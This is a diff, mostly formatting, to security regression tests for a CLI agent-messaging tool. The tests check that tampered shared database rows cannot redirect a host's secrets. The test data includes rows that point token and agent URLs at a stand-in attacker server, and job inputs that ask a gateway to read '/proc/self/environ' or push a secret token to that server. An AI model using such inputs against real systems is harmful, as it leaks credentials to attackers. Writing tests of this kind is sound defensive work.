@@ -60,7 +60,7 @@ afterEach(async () => {
   await db.drop();
 });
 
-describe('a shared row never decides which of a host\'s secrets is read (finding 1)', () => {
+describe("a shared row never decides which of a host's secrets is read (finding 1)", () => {
   it("keeps sending Alice's own secret when the shared ref is re-pointed at another env var of hers", async () => {
     // Bob re-adds the ref as AWS_SECRET_ACCESS_KEY (a database user does the same with one UPDATE).
     expect((await bob.run(['auth', 'remove', 'svc-token'])).code).toBe(0);
@@ -106,7 +106,10 @@ describe('a shared row never decides which of a host\'s secrets is read (finding
     await asDatabaseUser(`UPDATE auth_refs SET flow_json = $1 WHERE name = 'svc-token'`, [
       JSON.stringify({ type: 'oauth2_client_credentials', token_url: `${evil.baseUrl}/token`, issuer: null, client_id: 'alice', scopes: [], audience: null }),
     ]);
-    for (const args of [['send', 'svc', 'hi'], ['auth', 'login', 'svc-token']]) {
+    for (const args of [
+      ['send', 'svc', 'hi'],
+      ['auth', 'login', 'svc-token'],
+    ]) {
       const res = await alice.run([...args, '--json']);
       expect(res.code, args.join(' ')).toBe(77);
       expect(failure(res).code).toBe('missive::auth::shared_auth_ref_changed');
@@ -137,7 +140,12 @@ describe('a shared row never decides which of a host\'s secrets is read (finding
     await asDatabaseUser(`UPDATE agents SET base_url = $1, agent_card_json = NULL, agent_card_url = NULL WHERE alias = 'svc'`, [evil.baseUrl]);
     const trusted = await alice.run(['agent', 'trust', 'svc', '--json']);
     expect(trusted.code, trusted.stderr).toBe(0);
-    expect(trusted.json().data).toMatchObject({ alias: 'svc', origins: [`${new URL(evil.baseUrl).origin}`], auth_ref: 'svc-token', previous: { origins: [new URL(real.baseUrl).origin] } });
+    expect(trusted.json().data).toMatchObject({
+      alias: 'svc',
+      origins: [`${new URL(evil.baseUrl).origin}`],
+      auth_ref: 'svc-token',
+      previous: { origins: [new URL(real.baseUrl).origin] },
+    });
     expect((await alice.run(['send', 'svc', 'now it goes'])).code).toBe(0);
     expect(evil.requests.at(-1)?.authorization).toBe(`Bearer ${ALICE_TOKEN}`);
   });
@@ -184,8 +192,18 @@ describe("a queued job cannot make another host's gateway read its files or run 
   });
 
   it('refuses a job row that names a file, a working directory or an env var for the gateway to read', async () => {
-    await insertJob('job-environ', 'send', { kind: 'send', input: { agent: 'plain', fileBytes: ['/proc/self/environ'], cwd: '/', messageId: 'm-environ' } }, 'plain');
-    await insertJob('job-push', 'send', { kind: 'send', input: { agent: 'plain', text: 'hi', pushUrl: `${evil.baseUrl}/cb`, pushTokenEnv: 'BOB_SVC_TOKEN', cwd: '/', messageId: 'm-push' } }, 'plain');
+    await insertJob(
+      'job-environ',
+      'send',
+      { kind: 'send', input: { agent: 'plain', fileBytes: ['/proc/self/environ'], cwd: '/', messageId: 'm-environ' } },
+      'plain',
+    );
+    await insertJob(
+      'job-push',
+      'send',
+      { kind: 'send', input: { agent: 'plain', text: 'hi', pushUrl: `${evil.baseUrl}/cb`, pushTokenEnv: 'BOB_SVC_TOKEN', cwd: '/', messageId: 'm-push' } },
+      'plain',
+    );
     await gatewayOnce(bob);
     for (const id of ['job-environ', 'job-push']) {
       const job = await jobOf(bob, id);
@@ -232,7 +250,7 @@ describe("a queued job cannot make another host's gateway read its files or run 
     });
   });
 
-  it("uses only the auth refs its operator lists for jobs ([gateway] job_auth_refs)", async () => {
+  it('uses only the auth refs its operator lists for jobs ([gateway] job_auth_refs)', async () => {
     const first = (await alice.run(['job', 'start', 'send', 'svc', 'unlisted', '--json'])).json().data.job_id;
     await gatewayOnce(alice);
     const refused = await jobOf(alice, first);
